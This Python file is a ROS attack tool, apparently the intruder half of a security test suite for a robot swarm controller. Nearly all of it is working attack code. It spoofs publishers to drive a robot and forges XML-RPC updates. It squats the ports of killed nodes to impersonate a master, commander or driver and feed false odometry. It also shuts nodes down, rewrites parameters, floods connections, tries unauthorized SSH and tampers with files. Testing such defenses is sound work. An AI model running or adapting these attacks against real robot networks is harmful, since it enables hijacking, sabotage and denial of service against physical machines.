"""What an attacker does: ``python3 intruder.py ATTACK FACTS``. Plain sockets and XML-RPC, no library of ROS.

It prints ``on`` once the attack is under way, and at its end what it has read, as JSON. FACTS, JSON, is all
that a patient attacker finds out: addresses, ports, names of nodes.
"""

from __future__ import annotations

import contextlib
import errno
import fcntl
import json
import os
import resource
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Mapping
from http.client import HTTPConnection
from pathlib import Path
from typing import Any
from xmlrpc.client import MultiCall, ServerProxy, Transport
from xmlrpc.server import SimpleXMLRPCServer

LIMIT = 2.0  # s for a connection, or an answer
CONNECTED_WITHIN = 3.0  # s for the robot to connect to a publisher
PUBLISHED = 1.5  # s
FLOOD = 1300  # connections
FLOODED = 10.0  # s
DEAD = 2000  # publishers
SQUATTED = 15.0  # s for which a port is waited for, and then kept
IP_FREEBIND = 15  # ip(7)
HELD = 3.0  # s for a lock
TWIST = ("geometry_msgs/Twist", "9f195f881246fdfa2798d1d3eebca84a")
ODOMETRY = ("nav_msgs/Odometry", "cd5e73d190d741a2f92e81eda573aca7")
ELSEWHERE = 42.0  # m, where a robot is not
LIGHTS = ("std_msgs/UInt8MultiArray", "82373f1612381bb6ee473b5cd6f5d89c")
FACTS: dict[str, Any] = {}  # filled from the command line


class FromOwnAddress(Transport):
    """An HTTP transport with a timeout, from the address that this attacker has."""

    def make_connection(self, host: Any) -> HTTPConnection:
        return HTTPConnection(host, timeout=LIMIT, source_address=(FACTS["own"], 0))


def api(uri: str) -> Any:
    return ServerProxy(uri, transport=FromOwnAddress())


def master() -> Any:
    return api(FACTS["master"])


def driver() -> Any:
    return api(FACTS["driver"])


def connect(host: str, port: int) -> socket.socket:
    return socket.create_connection((host, port), LIMIT, source_address=(FACTS["own"], 0))


# TCPROS: each field and the header have their length before them (wiki.ros.org/ROS/TCPROS).


def header(**fields: str) -> bytes:
    parts = [f"{key}={value}".encode() for key, value in fields.items()]
    body = b"".join(struct.pack("<I", len(part)) + part for part in parts)
    return struct.pack("<I", len(body)) + body


def received(connection: socket.socket) -> bytes:
    (size,) = struct.unpack("<I", connection.recv(4, socket.MSG_WAITALL))
    return connection.recv(size, socket.MSG_WAITALL)


class Publisher:
    """A node with one topic. It sends ``body`` to whoever connects, as ``name``.

    Its API is at a ``listener``, or at any port.
    """

    def __init__(
        self, name: str, kind: tuple[str, str], body: bytes, listener: socket.socket | None = None
    ) -> None:
        self._name, self._kind, self._body = name, kind, body
        self._served = threading.Event()
        self._topics = _listener()
        self._slave = _server(listener or _listener())
        self.uri = f"http://{FACTS['own']}:{self._slave.server_address[1]}/"
        self._slave.register_function(self._request_topic, "requestTopic")
        self._slave.register_function(lambda *_: (1, "", 0), "publisherUpdate")
        for serve in (self._slave.serve_forever, self._serve):
            threading.Thread(target=serve, daemon=True).start()

    def _request_topic(self, *_: Any) -> tuple[int, str, list[Any]]:
        return 1, "", ["TCPROS", FACTS["own"], self._topics.getsockname()[1]]

    def _serve(self) -> None:
        while True:
            connection, _ = self._topics.accept()
            threading.Thread(target=self._send, args=(connection,), daemon=True).start()

    def _send(self, connection: socket.socket) -> None:
        kind, md5sum = self._kind
        with contextlib.suppress(OSError, struct.error), connection:
            received(connection)
            greeting = header(
                callerid=self._name, type=kind, md5sum=md5sum, latching="0", message_definition="float64 x"
            )
            connection.sendall(greeting)
            end = time.monotonic() + PUBLISHED
            while time.monotonic() < end:
                connection.sendall(struct.pack("<I", len(self._body)) + self._body)
                time.sleep(0.05)
        self._served.set()

    def wait(self) -> None:
        self._served.wait(CONNECTED_WITHIN)


def _server(listener: socket.socket) -> SimpleXMLRPCServer:
    place = listener.getsockname()
    server = SimpleXMLRPCServer(place, logRequests=False, allow_none=True, bind_and_activate=False)
    server.socket.close()
    server.socket, server.server_address = listener, place
    return server


def _taken(port: int) -> socket.socket | None:
    """A socket at a port as soon as nobody else has it; None if that is never so."""
    print("on", flush=True)
    end = time.monotonic() + SQUATTED
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            return _listener(port)
    return None


def _listener(port: int = 0) -> socket.socket:
    listener = socket.socket()
    listener.setsockopt(socket.SOL_IP, IP_FREEBIND, 1)  # the host may not have its address yet
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((FACTS["own"], port))
    listener.listen(100)
    return listener


def _commander(listener: socket.socket | None = None) -> Publisher:
    return Publisher(FACTS["commander"], TWIST, struct.pack("<6d", 0.1, 0, 0, 0, 0, 0), listener)


def _registered(name: str, topic: str, kind: tuple[str, str], body: bytes) -> None:
    publisher = Publisher(name, kind, body)
    master().registerPublisher(name, topic, kind[0], publisher.uri)
    publisher.wait()
    master().unregisterPublisher(name, topic, publisher.uri)


def _drive(name: str) -> None:
    _registered(name, "/k3/cmd_vel", TWIST, struct.pack("<6d", 0.1, 0, 0, 0, 0, 0))


def list_graph() -> Any:
    return master().getSystemState("/intruder")[2]


def publish_as_stranger() -> None:
    _drive("/intruder")


def publish_as_commander() -> None:
    _drive(FACTS["commander"])


def publish_in_namespace() -> None:
    _drive("/k3/intruder")


def made_up_node() -> None:
    """The master lists the node at the commander's host; the connection comes from here."""
    master().registerPublisher("/ghost", "/ghosts", "std_msgs/String", f"http://{FACTS['leader']}:40000/")
    _drive("/ghost")


def forged_update() -> None:
    publisher = _commander()
    driver().publisherUpdate("/master", "/k3/cmd_vel", [publisher.uri])
    publisher.wait()
    driver().publisherUpdate("/master", "/k3/cmd_vel", [])


def squat_master() -> bool:
    """Takes the master's port, and names this attacker to each robot as its commander; whether it had it."""
    listener = _taken(int(FACTS["master"].rstrip("/").rpartition(":")[2]))
    if listener is None:
        return False
    publisher = _commander()
    server = _server(listener)

    class Everything:
        def _dispatch(self, method: str, _: Any) -> tuple[int, str, Any]:
            return 1, "", {"registerSubscriber": [publisher.uri], "getPid": os.getpid()}.get(method, 0)

    server.register_instance(Everything())
    threading.Thread(target=server.serve_forever, daemon=True).start()
    time.sleep(SQUATTED)
    return True


def squat_commander() -> bool:
    """Takes the port of a commander that was killed, which the master still has; whether it had it."""
    (_, uri), *_ = FACTS["commanders"]
    listener = _taken(int(uri.rstrip("/").rpartition(":")[2]))
    if listener is None:
        return False
    _commander(listener)
    time.sleep(SQUATTED)
    return True


def squat_driver() -> bool:
    """Takes the port of a driver that was killed, which the master still has; whether it had it."""
    listener = _taken(int(FACTS["squatted"].rstrip("/").rpartition(":")[2]))
    if listener is None:
        return False
    place = struct.pack("<5I85d", 0, 0, 0, 0, 0, ELSEWHERE, *(0.0 for _ in range(84)))
    Publisher("/koala/driver", ODOMETRY, place, listener)
    time.sleep(SQUATTED)
    return True


def set_lights() -> None:
    light = FACTS["light"]
    _registered("/intruder", "/k3/leds", LIGHTS, struct.pack("<III2B", 0, 0, 2, light, light))


def kick_out() -> None:
    publisher = Publisher("/k3/driver", TWIST, b"")
    master().registerPublisher("/k3/driver", "/intruders", "std_msgs/String", publisher.uri)
    time.sleep(1)


def unregister_odometry() -> None:
    master().unregisterPublisher("/k3/driver", "/k3/odom", FACTS["driver"])


def unregister_commander() -> None:
    for node, uri in FACTS["commanders"]:
        master().unregisterPublisher(node, "/k3/cmd_vel", uri)


def set_run_id() -> None:
    master().setParam("/intruder", "/run_id", "intruder")


def set_parameter() -> None:
    master().setParam("/intruder", "/k3/driver/command_timeout", 60.0)


def delete_parameter() -> None:
    master().deleteParam("/intruder", "/k3/robot_description")


def shut_down_driver() -> None:
    driver().shutdown("/master", "attack")


def shut_down_master() -> None:
    master().shutdown("/intruder", "attack")


def read_odometry() -> Any:
    """The position (m) in the first message: a header, a frame, then float64 x, y."""
    _, host, port = driver().requestTopic("/intruder", "/k3/odom", [["TCPROS"]])[2]
    with connect(host, port) as connection:
        greeting = header(callerid="/intruder", topic="/k3/odom", type="nav_msgs/Odometry", md5sum="*")
        connection.sendall(greeting)
        received(connection)
        message = received(connection)
    place = 12  # bytes of seq and stamp
    for _ in range(2):
        place += 4 + struct.unpack_from("<I", message, place)[0]
    return struct.unpack_from("<2d", message, place)


def flood_master() -> None:
    _, _, address = FACTS["master"].rstrip("/").rpartition("//")
    host, _, port = address.partition(":")
    _flood(host, int(port))


def flood_driver() -> None:
    _flood(*FACTS["topics"])


def _flood(host: str, port: int) -> None:
    """Holds so many connections, and opens another one for each that ends."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))

    def opened() -> socket.socket:
        one = socket.socket()
        one.setblocking(False)
        one.bind((FACTS["own"], 0))
        one.connect_ex((host, port))
        return one

    sockets = [opened() for _ in range(FLOOD)]
    print("on", flush=True)
    end = time.monotonic() + FLOODED
    while time.monotonic() < end:
        for number, one in enumerate(sockets):
            if _has_ended(one):
                one.close()
                sockets[number] = opened()
        time.sleep(0.05)


def _has_ended(one: socket.socket) -> bool:
    try:
        return one.recv(1, socket.MSG_PEEK) == b""
    except OSError as error:
        return error.errno not in (errno.EAGAIN, errno.ENOTCONN)


def dead_publishers() -> None:
    calls = MultiCall(master())
    for number in range(DEAD):
        uri = f"http://{FACTS['own']}:{20000 + number}/"
        calls.registerPublisher(f"/intruder{number}", "/k3/cmd_vel", TWIST[0], uri)
    with contextlib.suppress(TimeoutError):  # it goes on with them
        calls()
    time.sleep(HELD)


def log_in() -> None:
    """SSH with a key that nobody has authorized."""
    with tempfile.TemporaryDirectory() as folder:
        key = f"{folder}/key"
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key], check=True)
        options = [
            "BatchMode=yes", "StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null", "IdentitiesOnly=yes",
            "IdentityAgent=none", "ConnectTimeout=5",
        ]  # fmt: skip
        argv = ["ssh", "-F", "/dev/null", "-b", FACTS["own"], "-i", key, *(f"-o{one}" for one in options)]
        subprocess.run([*argv, f"robot@{FACTS['host']}", f"touch {FACTS['proof']}"], check=False, timeout=20)


def tamper() -> None:
    """Writes into, beside and in place of whatever swarmctl has on this host."""
    for place in sorted(Path(FACTS["home"]).rglob("*")):
        with contextlib.suppress(OSError):
            if place.is_dir():
                (place / "intruder").write_text("x")
            else:
                place.open("a").write("x")
        with contextlib.suppress(OSError):
            place.rename(f"{place}.intruder")


def hold_lock() -> None:
    with (Path(FACTS["home"]) / "state/lock").open() as file:
        fcntl.flock(file, fcntl.LOCK_EX)
        print("on", flush=True)
        time.sleep(HELD)


_FUNCTIONS = (
    list_graph, read_odometry, publish_as_stranger, publish_as_commander, publish_in_namespace, made_up_node,
    forged_update, squat_commander, squat_driver, set_lights, kick_out, shut_down_driver, shut_down_master,
    unregister_odometry, unregister_commander, set_run_id, set_parameter, delete_parameter, dead_publishers,
    flood_master, flood_driver, log_in, tamper, hold_lock,
)  # fmt: skip
ATTACKS: Mapping[str, Callable[[], Any]] = {
    **dict.fromkeys(("squat_at_restart", "squat_at_crash", "squat_at_boot"), squat_master),
    **{function.__name__: function for function in _FUNCTIONS},
}


def main(attack: str, facts: str) -> str:
    FACTS.update(json.loads(facts))
    try:
        return json.dumps({"read": ATTACKS[attack]()})
    except Exception as error:  # noqa: BLE001  whatever keeps it away
        return json.dumps({"error": f"{type(error).__name__}: {error}"})


if __name__ == "__main__":
    print(main(*sys.argv[1:]), flush=True)
    os._exit(0)  # its servers run on
